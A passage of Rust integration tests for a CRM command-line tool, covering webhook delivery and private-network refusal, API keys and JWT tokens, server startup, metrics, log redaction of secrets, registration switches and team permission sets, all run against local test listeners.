    let lib = harness::connect(&url).await.unwrap();
    let t = lib.tenant(&crm_core::TenantContext::system(org));

    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (got, requests) = std::sync::mpsc::channel::<(String, String)>();
    std::thread::spawn(move || {
        use std::io::Write as _;
        // The first request is held, unanswered, until its sender dies; the next is taken.
        let (mut first, _) = listener.accept().unwrap();
        got.send(read_request(&mut first)).unwrap();
        let (mut second, _) = listener.accept().unwrap();
        got.send(read_request(&mut second)).unwrap();
        second
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            .unwrap();
        drop(first);
    });
    let (sub, _) = t
        .webhooks()
        .create(crm_core::NewWebhookSubscription {
            url: format!("http://127.0.0.1:{port}/in"),
            ..Default::default()
        })
        .await
        .unwrap();
    t.contacts()
        .create(NewContact {
            last_name: Some("Lovelace".into()),
            ..Default::default()
        })
        .await
        .unwrap();

    let worker = |allow: &str| {
        std::process::Command::new(assert_cmd::cargo::cargo_bin("crm"))
            .args(["worker", "--no-plan"])
            .env("DATABASE_URL", &url)
            .env(
                "CRM_JOB_QUEUE",
                format!("cli-{}", uuid::Uuid::now_v7().simple()),
            )
            .env("CRM_WEBHOOK_ALLOW_HTTP", "1")
            .env("CRM_WEBHOOK_ALLOW_PRIVATE_NETWORKS", allow)
            .env("CRM_WEBHOOK_TIMEOUT", "3")
            .env("NO_COLOR", "1")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap()
    };
    let wait = std::time::Duration::from_secs(60);
    let log = async || {
        t.webhooks()
            .deliveries(sub.id, None, None, 10)
            .await
            .unwrap()
    };

    // A worker whose operator does not allow private networks checks the address at delivery
    // time, though the subscription was saved under a policy that allowed it: nothing is sent.
    let mut strict = worker("0");
    let deadline = std::time::Instant::now() + wait;
    let refused = loop {
        let page = log().await;
        if let Some(error) = page.data.first().and_then(|d| d.last_error.clone()) {
            break error;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "not attempted: {page:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    assert!(refused.contains("non-public address"), "{refused}");
    strict.kill().unwrap();
    strict.wait().unwrap();
    assert!(requests.try_recv().is_err(), "nothing reached the receiver");

    let mut first = worker("1");
    let (id, body) = requests.recv_timeout(wait).expect("the first attempt");
    first.kill().unwrap();
    first.wait().unwrap();
    let mut second = worker("1");
    let (again, body_again) = requests
        .recv_timeout(wait)
        .expect("the attempt after the kill");
    assert!(!id.is_empty());
    assert_eq!(again, id, "the same webhook-id");
    assert_eq!(body_again, body);
    let change: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(change["type"], "contact.created");
    assert_eq!(change["data"]["id"], id.as_str());

    let deadline = std::time::Instant::now() + wait;
    let delivery = loop {
        let page = log().await;
        if page.data[0].status == crm_core::DeliveryStatus::Delivered {
            break page.data[0].clone();
        }
        assert!(
            std::time::Instant::now() < deadline,
            "not recorded: {page:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    // Refused, killed, delivered.
    assert_eq!(
        (delivery.attempts, delivery.response_status),
        (3, Some(200))
    );
    let stopped = std::process::Command::new("kill")
        .args(["-TERM", &second.id().to_string()])
        .status()
        .unwrap();
    assert!(stopped.success());
    assert!(second.wait().unwrap().success());

    // The daily sweep keeps the delivery log for 30 days.
    execute(
        &url,
        "update webhook_deliveries set created_at = '2000-01-01T00:00:00Z'",
    )
    .await;
    let swept = json(&url, &["sweep"]);
    assert_eq!(swept[0]["webhook_deliveries"], 1, "{swept}");
    assert!(log().await.data.is_empty());
}

#[tokio::test]
async fn sqlite_webhook_deliveries_survive_a_killed_worker() {
    webhook_deliveries_survive_a_killed_worker(false).await
}

#[tokio::test]
async fn postgres_webhook_deliveries_survive_a_killed_worker() {
    webhook_deliveries_survive_a_killed_worker(true).await
}

#[tokio::test]
async fn sqlite_trash_retention_is_per_organization() {
    trash_retention_is_per_organization(false).await
}

#[tokio::test]
async fn postgres_trash_retention_is_per_organization() {
    trash_retention_is_per_organization(true).await
}

#[tokio::test]
async fn sqlite_jobs_are_planned_worked_and_listed() {
    jobs_are_planned_worked_and_listed(false).await
}

#[tokio::test]
async fn postgres_jobs_are_planned_worked_and_listed() {
    jobs_are_planned_worked_and_listed(true).await
}

#[tokio::test]
async fn sqlite_csv_imports_are_read_faithfully_and_all_or_nothing() {
    csv_imports_are_read_faithfully_and_all_or_nothing(false).await;
}

#[tokio::test]
async fn postgres_csv_imports_are_read_faithfully_and_all_or_nothing() {
    csv_imports_are_read_faithfully_and_all_or_nothing(true).await;
}

#[tokio::test]
async fn sqlite_organizations_users_and_errors() {
    organizations_users_and_errors(false).await;
}

#[tokio::test]
async fn postgres_organizations_users_and_errors() {
    organizations_users_and_errors(true).await;
}

#[tokio::test]
async fn sqlite_seed_import_export_round_trip_and_purge() {
    seed_import_export_round_trip_and_purge(false).await;
}

#[tokio::test]
async fn postgres_seed_import_export_round_trip_and_purge() {
    seed_import_export_round_trip_and_purge(true).await;
}

async fn api_keys_tokens_and_openapi(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let org = json(&url, &["org", "create", "--name", "Keys"])["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let user = json(
        &url,
        &[
            "user",
            "create",
            "--org",
            "keys",
            "--email",
            "k@keys.test",
            "--name",
            "K",
            "--no-password",
        ],
    );
    let created = json(
        &url,
        &["api-key", "create", "--org", "keys", "--name", "forms"],
    );
    let secret = created["secret"].as_str().unwrap();
    assert!(secret.starts_with("crm_key_"));
    // Without --scope a key is for web forms only; scopes are listed.
    assert_eq!(created["scopes"], serde_json::json!(["forms"]));
    let id = created["id"].as_str().unwrap().to_owned();
    let create = |name: &str, scopes: &[&str]| {
        let mut args = vec!["api-key", "create", "--org", "keys", "--name", name];
        for s in scopes {
            args.extend(["--scope", s]);
        }
        args.into_iter().map(str::to_owned).collect::<Vec<_>>()
    };
    let args = create("sync", &["leads:read", "accounts:write,contacts:read"]);
    let scoped = json(&url, &args.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(
        scoped["scopes"],
        serde_json::json!(["leads:read", "accounts:write", "contacts:read"])
    );
    assert_ne!(scoped["prefix"], created["prefix"]);
    let args = create("x", &["leads:own"]);
    let bad = crm(&url, &args.iter().map(String::as_str).collect::<Vec<_>>())
        .output()
        .unwrap();
    assert!(!bad.status.success());
    let listed = json(&url, &["api-key", "list", "--org", "keys"]);
    assert_eq!(listed[0]["id"], id.as_str());
    assert_eq!(listed[1]["scopes"], scoped["scopes"]);
    harness::assert_no_api_key_secret(&listed.to_string(), secret);
    harness::assert_no_api_key_secret(&text(&url, &["api-key", "list", "--org", "keys"]), secret);
    assert!(json(&url, &["api-key", "revoke", "--org", "keys", &id])["revoked_at"].is_string());

    // Tokens need the server's secret, and a user who may sign in.
    let out = crm(
        &url,
        &["token", "issue", "--org", "keys", "--user", "k@keys.test"],
    )
    .env_remove("CRM_JWT_SECRET")
    .output()
    .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("CRM_JWT_SECRET"));
    let issue = |extra: &[&str]| {
        let mut args = vec![
            "--json",
            "token",
            "issue",
            "--org",
            "keys",
            "--user",
            "k@keys.test",
        ];
        args.extend_from_slice(extra);
        crm(&url, &args)
            .env("CRM_JWT_SECRET", "0123456789abcdef0123456789abcdef")
            .output()
            .unwrap()
    };
    let out = issue(&[]);
    succeeded(&out);
    let issued: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(issued["expires_in"], 900);
    // Signed with that secret, for that user of that organization, as the API expects.
    let token = issued["access_token"].as_str().unwrap();
    let mut rules = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::HS256);
    rules.set_issuer(&["abetworks-crm"]);
    rules.set_audience(&["abetworks-crm"]);
    rules.set_required_spec_claims(&["exp", "iat", "nbf", "iss", "aud", "sub"]);
    let decode = |secret: &[u8]| {
        jsonwebtoken::decode::<Value>(
            token,
            &jsonwebtoken::DecodingKey::from_secret(secret),
            &rules,
        )
    };
    let claims = decode(b"0123456789abcdef0123456789abcdef")
        .expect("a valid token signed with CRM_JWT_SECRET")
        .claims;
    assert_eq!(claims["sub"], user["id"], "{claims}");
    assert_eq!(claims["org"], org.as_str(), "{claims}");
    assert_eq!(claims["role"], "user", "{claims}");
    assert!(claims["jti"].is_string(), "{claims}");
    assert_eq!(
        claims["exp"].as_i64().unwrap() - claims["iat"].as_i64().unwrap(),
        900,
        "{claims}"
    );
    assert!(
        decode(b"another secret, thirty-two bytes long").is_err(),
        "only that secret verifies it"
    );
    // Tokens cannot be revoked: their lifetime is bounded.
    for minutes in ["0", "1441", "99999999999"] {
        let out = issue(&["--minutes", minutes]);
        assert!(!out.status.success(), "--minutes {minutes} was accepted");
    }

    // The spec needs no database.
    let spec = text("sqlite::memory:", &["openapi", "--format", "json"]);
    let spec: Value = serde_json::from_str(&spec).unwrap();
    assert_eq!(spec["openapi"], "3.1.0");
    let committed =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/openapi.yaml"))
            .unwrap();
    assert_eq!(
        text("sqlite::memory:", &["openapi"]),
        committed,
        "crm openapi prints the committed spec"
    );
}

#[tokio::test]
async fn sqlite_api_keys_tokens_and_openapi() {
    api_keys_tokens_and_openapi(false).await;
}

#[tokio::test]
async fn postgres_api_keys_tokens_and_openapi() {
    api_keys_tokens_and_openapi(true).await;
}

/// TLS to PostgreSQL as an operator meets it: `sslmode=require` against a server that offers no
/// TLS says so, and where to look.
#[cfg(feature = "tls")]
#[test]
fn sslmode_require_against_a_server_without_tls_says_why() {
    let url = format!(
        "postgres://crm@{}/crm?sslmode=require",
        harness::server_without_tls()
    );
    let out = crm(&url, &["org", "list"]).output().unwrap();
    assert!(!out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        format!(
            "error: cannot open the database at {url}: configuration error: cannot set up TLS to \
             the database: server does not support TLS (check the database URL's sslmode, and \
             its sslrootcert for verify-ca and verify-full)\n"
        )
    );
}

/// `sslmode=disable` keeps working (the CLI is built with TLS by default).
#[tokio::test]
async fn postgres_sslmode_disable_keeps_working() {
    let Some(url) = harness::postgres_schema_url().await else {
        return;
    };
    let url = format!("{url}&sslmode=disable");
    let status = json(&url, &["migrate"]);
    assert_every_migration(&status, true);
    json(&url, &["org", "create", "--name", "Plain"]);
}

/// `crm serve` answers on its port and stops on SIGTERM (SQLite; the server is crm-axum's, tested
/// on both backends there).
/// `crm serve` on a fresh SQLite database and a port it picks itself (`--port 0`: a port chosen
/// here beforehand could be taken by a parallel test meanwhile), until [`Served::stop`].
struct Served {
    child: std::process::Child,
    port: u16,
    dir: tempfile::TempDir,
}

impl Served {
    /// Starts it with `args` after `serve` and `env`, and waits until its log (stdout, kept in
    /// [`Served::log`]) names the port it listens on.
    fn start(args: &[&str], env: &[(&str, &str)]) -> Served {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("log");
        let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("crm"));
        cmd.args(["serve", "--listen", "127.0.0.1", "--port", "0"])
            .args(args)
            .env(
                "DATABASE_URL",
                format!("sqlite://{}", dir.path().join("crm.db").display()),
            )
            .env("CRM_JWT_SECRET", "0123456789abcdef0123456789abcdef")
            .env_remove("CRM_REGISTRATION")
            .env_remove("CRM_LOG_FORMAT")
            .env_remove("RUST_LOG")
            .env_remove("CRM_METRICS_ADDR")
            .env_remove("CRM_METRICS_TOKEN")
            .env_remove("REDIS_URL")
            .env("NO_COLOR", "1")
            .envs(env.iter().copied())
            .stdout(std::fs::File::create(&log).unwrap())
            .stderr(std::fs::File::create(dir.path().join("stderr")).unwrap());
        let mut child = cmd.spawn().unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let port = loop {
            let text = std::fs::read_to_string(&log).unwrap();
            if let Some(port) = logged_port(&text, "listening on http://") {
                break port;
            }
            let stderr = std::fs::read_to_string(dir.path().join("stderr")).unwrap();
            if let Some(status) = child.try_wait().unwrap() {
                panic!("crm serve exited ({status}) before listening:\n{text}\n{stderr}");
            }
            assert!(
                std::time::Instant::now() < deadline,
                "crm serve did not listen within a minute:\n{text}\n{stderr}"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        Served { child, port, dir }
    }

    /// What it has logged so far.
    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("log")).unwrap()
    }

    /// One request (see [`http`]).
    fn http(&self, method: &str, path: &str, token: &str, body: Option<&str>) -> String {
        http(self.port, method, path, token, body)
    }

    /// Stops it with SIGTERM (graceful shutdown) and returns its exit status; its log stays
    /// readable.
    fn stop(&mut self) -> std::process::ExitStatus {
        let stopped = std::process::Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status()
            .unwrap();
        assert!(stopped.success());
        self.child.wait().unwrap()
    }
}

impl Drop for Served {
    /// A test that failed midway does not leave its server running.
    fn drop(&mut self) {
        if self.child.try_wait().ok().flatten().is_none() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

#[test]
fn serve_answers_and_stops() {
    let mut served = Served::start(&[], &[]);
    let answer = served.http("GET", "/healthz", "none", None);
    let status = served.stop();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(status.success(), "graceful shutdown exits 0: {status:?}");
}

/// An OpenTelemetry endpoint set for a build without the `otel` feature is said at start, not
/// left for an operator to discover when no trace arrives.
#[cfg(not(feature = "otel"))]
#[test]
fn serve_warns_at_start_of_an_otlp_endpoint_it_cannot_export_to() {
    let mut served = Served::start(
        &[],
        &[("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318")],
    );
    let log = served.log();
    served.stop();
    assert!(
        log.contains(
            "OTEL_EXPORTER_OTLP_ENDPOINT is set, but this build has no OpenTelemetry export"
        ),
        "{log}"
    );
}

/// A Redis that does not answer is said at start; the server serves all the same.
#[cfg(feature = "redis")]
#[test]
fn serve_says_at_start_that_redis_does_not_answer() {
    let mut served = Served::start(&[], &[("REDIS_URL", "redis://127.0.0.1:1")]);
    let answer = served.http("GET", "/healthz", "none", None);
    let log = served.log();
    served.stop();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let told = log.find("Redis (--redis-url / REDIS_URL) does not answer");
    let listening = log.find("listening on");
    assert!(told.is_some() && told < listening, "{log}");
}

/// The port of the first `http://host:port` address that follows `after` in `log`.
fn logged_port(log: &str, after: &str) -> Option<u16> {
    let (_, rest) = log.split_once(after)?;
    let addr = rest.split(['/', ' ', '"']).next()?;
    addr.rsplit_once(':')?.1.parse().ok()
}

/// `crm serve` serves Prometheus metrics next to `/healthz`, or, with `--metrics-addr` (or
/// `CRM_METRICS_ADDR`), on an address of its own and then not on the main listener; with
/// `CRM_METRICS_TOKEN`, only to scrapers that send it.
#[test]
fn metrics_are_served_beside_the_api_or_on_their_own_address() {
    let mut served = Served::start(&[], &[]);
    served.http("GET", "/healthz", "none", None);
    let scrape = served.http("GET", "/metrics", "none", None);
    served.stop();
    assert!(scrape.starts_with("HTTP/1.1 200"), "{scrape}");
    assert!(
        scrape.contains(r#"crm_http_requests_total{method="GET",route="/healthz",status="200"} 1"#),
        "{scrape}"
    );

    // Port 0: a free one, which the log names.
    let addr = "127.0.0.1:0";
    let by_flag: (&[&str], &[(&str, &str)], &str) = (&["--metrics-addr", addr], &[], "none");
    let by_env: (&[&str], &[(&str, &str)], &str) = (
        &[],
        &[
            ("CRM_METRICS_ADDR", addr),
            ("CRM_METRICS_TOKEN", "scrape-token"),
        ],
        "scrape-token",
    );
    for (args, env, token) in [by_flag, by_env] {
        let mut served = Served::start(args, env);
        let port = logged_port(&served.log(), "metrics on http://").expect("a metrics address");
        let on_main = served.http("GET", "/metrics", token, None);
        let wrong_token = http(port, "GET", "/metrics", "wrong", None);
        let apart = http(port, "GET", "/metrics", token, None);
        served.stop();
        assert!(on_main.starts_with("HTTP/1.1 404"), "{args:?}: {on_main}");
        assert!(apart.starts_with("HTTP/1.1 200"), "{args:?}: {apart}");
        assert!(
            apart.contains(
                r#"crm_http_requests_total{method="GET",route="unmatched",status="404"}"#
            ),
            "{apart}"
        );
        let guarded = token != "none";
        assert_eq!(
            wrong_token.starts_with("HTTP/1.1 401"),
            guarded,
            "{wrong_token}"
        );
    }
}

/// A stand-in OTLP/HTTP collector on a port of its own: it answers every request 200 and hands
/// over each one's request line, headers (lower-case) and body.
#[cfg(feature = "otel")]
fn otlp_collector() -> (u16, std::sync::mpsc::Receiver<(String, String, Vec<u8>)>) {
    use std::io::{BufRead as _, Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (send, received) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let send = send.clone();
            std::thread::spawn(move || {
                let mut reader = std::io::BufReader::new(conn.try_clone().unwrap());
                let mut conn = conn;
                // One request after another on a kept-alive connection.
                loop {
                    let mut head = String::new();
                    while !head.ends_with("\r\n\r\n") {
                        if reader.read_line(&mut head).unwrap_or(0) == 0 {
                            return;
                        }
                    }
                    let head = head.to_ascii_lowercase();
                    let length = head
                        .lines()
                        .find_map(|l| l.strip_prefix("content-length:"))
                        .map_or(0, |n| n.trim().parse().unwrap());
                    let mut body = vec![0; length];
                    reader.read_exact(&mut body).unwrap();
                    conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
                        .unwrap();
                    let (line, headers) = head.split_once("\r\n").unwrap();
                    if send
                        .send((line.to_owned(), headers.to_owned(), body))
                        .is_err()
                    {
                        return;
                    }
                }
            });
        }
    });
    (port, received)
}

/// Built with `--features otel`, `crm serve` exports its request spans over OTLP/HTTP
/// (protobuf) to `OTEL_EXPORTER_OTLP_ENDPOINT`, and sends the last ones when it stops.
#[cfg(feature = "otel")]
#[test]
fn request_spans_are_exported_over_otlp_when_an_endpoint_is_set() {
    let (port, received) = otlp_collector();
    let endpoint = format!("http://127.0.0.1:{port}");
    let mut served = Served::start(
        &[],
        &[
            ("OTEL_EXPORTER_OTLP_ENDPOINT", &endpoint),
            ("OTEL_SERVICE_NAME", "crm-under-test"),
        ],
    );
    let answer = served.http("GET", "/healthz", "none", None);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(served.stop().success());

    let (line, headers, body) = received
        .recv_timeout(std::time::Duration::from_secs(10))
        .expect("an export request");
    assert_eq!(line, "post /v1/traces http/1.1");
    assert!(
        headers.contains("content-type: application/x-protobuf"),
        "{headers}"
    );
    // Protobuf keeps strings as they are: the service, the span and its route template.
    let contains = |needle: &str| body.windows(needle.len()).any(|w| w == needle.as_bytes());
    for needle in ["crm-under-test", "request", "route", "/healthz"] {
        assert!(contains(needle), "`{needle}` not in the export");
    }
}

/// Sends one HTTP/1.1 request to `port` and returns the whole answer (status line, headers,
/// body).
fn http(port: u16, method: &str, path: &str, token: &str, body: Option<&str>) -> String {
    use std::io::{Read as _, Write as _};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let body = body.unwrap_or("");
    write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\
         Authorization: Bearer {token}\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut answer = String::new();
    s.read_to_string(&mut answer).unwrap();
    answer
}

/// `CRM_LOG_FORMAT=json`: one JSON object per line, naming the request (id, route template,
/// status, latency, organization), never its credentials or body.
#[test]
fn json_logs_name_the_request_never_its_secrets() {
    let mut served = Served::start(&[], &[("CRM_LOG_FORMAT", "json")]);
    let secret_password = "correct horse battery staple";
    let registered = served.http(
        "POST",
        "/api/v1/auth/register",
        "none",
        Some(&format!(
            r#"{{"organization_name":"Acme","name":"Ada","email":"ada@secret.test","password":"{secret_password}"}}"#
        )),
    );
    let body: Value = serde_json::from_str(registered.split("\r\n\r\n").nth(1).unwrap()).unwrap();
    let token = body["access_token"].as_str().unwrap().to_owned();
    let id = uuid::Uuid::now_v7();
    let missing = served.http("GET", &format!("/api/v1/contacts/{id}"), &token, None);
    assert!(missing.starts_with("HTTP/1.1 404"), "{missing}");
    let forged = served.http("GET", "/api/v1/contacts", "forged-SECRET-token", None);
    assert!(forged.starts_with("HTTP/1.1 401"), "{forged}");
    served.stop();

    let text = served.log();
    for secret in [
        secret_password,
        "forged-SECRET-token",
        token.as_str(),
        "ada@secret.test",
    ] {
        assert!(!text.contains(secret), "the log holds `{secret}`:\n{text}");
    }
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    let answered = |status: u64| {
        lines
            .iter()
            .find(|l| l["status"] == status)
            .unwrap_or_else(|| panic!("no {status} line in:\n{text}"))
    };
    let found = answered(404);
    let span = &found["span"];
    assert_eq!(span["route"], "/api/v1/contacts/{id}", "{found}");
    assert_eq!(span["method"], "GET", "{found}");
    assert!(
        span["request_id"].as_str().is_some_and(|r| r.len() >= 32),
        "{found}"
    );
    assert!(found["latency_ms"].as_f64().is_some(), "{found}");
    // The organization the token is for: an id, never who the caller is.
    assert!(
        span["org"]
            .as_str()
            .is_some_and(|o| o.parse::<uuid::Uuid>().is_ok()),
        "{found}"
    );
    assert_eq!(answered(401)["span"]["route"], "/api/v1/contacts");
}

/// `CRM_REGISTRATION=off` (and `--registration off`): nobody signs up a new organization.
#[test]
fn registration_can_be_switched_off() {
    let by_env: (&[&str], &[(&str, &str)]) = (&[], &[("CRM_REGISTRATION", "off")]);
    let by_flag: (&[&str], &[(&str, &str)]) = (&["--registration", "off"], &[]);
    for (args, env) in [by_env, by_flag] {
        let mut served = Served::start(args, env);
        let answer = served.http(
            "POST",
            "/api/v1/auth/register",
            "none",
            Some(r#"{"organization_name":"Acme","name":"Ada","email":"ada@example.com","password":"correct horse battery"}"#),
        );
        served.stop();
        assert!(
            answer.starts_with("HTTP/1.1 403"),
            "{args:?} {env:?}: {answer}"
        );
        assert!(answer.contains("registration_off"), "{answer}");
    }
}

async fn teams_and_permission_sets(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    json(&url, &["org", "create", "--name", "Acme"]);
    let org = ["--org", "acme"];
    let user = json(
        &url,
        &[
            &["user", "create"][..],
            &org,
            &[
                "--email",
                "rep@example.com",
                "--name",
                "Rep",
                "--no-password",
            ],
        ]
        .concat(),
    );
    let user_id = user["id"].as_str().unwrap();

    let team = json(
        &url,
        &[
            &["team", "create"][..],
            &org,
            &["--name", "West", "--manager", user_id],
        ]
        .concat(),
    );
    let team_id = team["id"].as_str().unwrap();
    assert_eq!(team["manager_id"], user_id);
    let member = json(
        &url,
        &[
            &["team", "add-member"][..],
            &org,
            &["--team", team_id, "--user", user_id],
        ]
        .concat(),
    );
    assert_eq!(member["user_id"], user_id);
    assert!(text(&url, &[&["team", "list"][..], &org].concat()).contains("West"));
    json(
        &url,
        &[
            &["team", "remove-member"][..],
            &org,
            &["--team", team_id, "--user", user_id],
        ]
        .concat(),
    );
    json(&url, &[&["team", "delete"][..], &org, &[team_id]].concat());
    assert_eq!(
        json(&url, &[&["team", "list"][..], &org].concat()),
        serde_json::json!([])
    );

    let rules = dir.path().join("rules.json");
    std::fs::write(
        &rules,
        r#"{"name": "Reps", "entities": {"contacts": {"read": "team", "write": "own", "delete": "none"}},
            "fields": {"contacts": {"phone": "hidden", "title": "read_only"}}}"#,
    )
    .unwrap();
    let file = rules.to_str().unwrap();
    let set = json(
        &url,
        &[&["access", "set-create"][..], &org, &["--file", file]].concat(),
    );
    let set_id = set["id"].as_str().unwrap();
    assert_eq!(set["entities"]["contacts"]["read"], "team");
    let listed = text(&url, &[&["access", "set-list"][..], &org].concat());
    assert!(listed.contains("contacts:team/own/none"), "{listed}");
    json(
        &url,
        &[
            &["access", "assign"][..],
            &org,
            &["--user", user_id, "--set", set_id],
        ]
        .concat(),
    );
    let out = crm(
        &url,
        &[&["access", "set-create"][..], &org, &["--file", file]].concat(),
    )
    .output()
    .unwrap();
    assert!(!out.status.success(), "a taken name is refused");

    // Exports and imports `--as` the rep honour the set: their team's records only, no hidden
    // column, and no write of a read-only field.
    let other = json(
        &url,
        &[
            &["user", "create"][..],
            &org,
            &[
                "--email",
                "other@example.com",
                "--name",
                "Other",
                "--no-password",
            ],
        ]
        .concat(),
    );
    let people = dir.path().join("people.csv");
    std::fs::write(
        &people,
        format!(
            "last_name,phone,owner_id\nMine,+1 555 0101,{user_id}\nTheirs,+1 555 0102,{}\n",
            other["id"].as_str().unwrap()
        ),
    )
    .unwrap();
    let people = people.to_str().unwrap();
    json(&url, &[&["import", "contacts", people][..], &org].concat());
    let as_rep = ["--as", "rep@example.com"];
    let export = text(&url, &[&["export", "contacts"][..], &org, &as_rep].concat());
    let mut lines = export.lines();
    let header = lines.next().unwrap();
    assert!(!header.split(',').any(|c| c == "phone"), "{header}");
    assert!(header.split(',').any(|c| c == "title"), "{header}");
    let rows: Vec<&str> = lines.collect();
    assert_eq!(rows.len(), 1, "{export}");
    assert!(
        rows[0].contains("Mine") && !rows[0].contains("555"),
        "{export}"
    );
    let everything = text(&url, &[&["export", "contacts"][..], &org].concat());
    assert!(everything.contains("Theirs") && everything.contains("555 0102"));

    let titled = dir.path().join("titled.csv");
    std::fs::write(&titled, "last_name,title\nNew,Buyer\n").unwrap();
    let args = [
        &["import", "contacts", titled.to_str().unwrap()][..],
        &org,
        &as_rep,
    ]
    .concat();
    let out = crm(&url, &args).output().unwrap();
    let said =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success(),
        "a read-only field is refused: {said}"
    );
    assert!(said.contains("title"), "{said}");
    let plain = dir.path().join("plain.csv");
    std::fs::write(&plain, "last_name\nRep's own\n").unwrap();
    let args = [
        &["import", "contacts", plain.to_str().unwrap()][..],
        &org,
        &as_rep,
    ]
    .concat();
    json(&url, &args);
    let export = text(&url, &[&["export", "contacts"][..], &org, &as_rep].concat());
    assert_eq!(
        export.lines().count(),
        3,
        "what they created is theirs: {export}"
    );
    let unknown = [
        &["export", "contacts"][..],
        &org,
        &["--as", "nobody@example.com"],
    ]
    .concat();
    assert!(!crm(&url, &unknown).output().unwrap().status.success());
}

#[tokio::test]
async fn sqlite_teams_and_permission_sets() {
    teams_and_permission_sets(false).await;
}

#[tokio::test]
async fn postgres_teams_and_permission_sets() {
    teams_and_permission_sets(true).await;
}
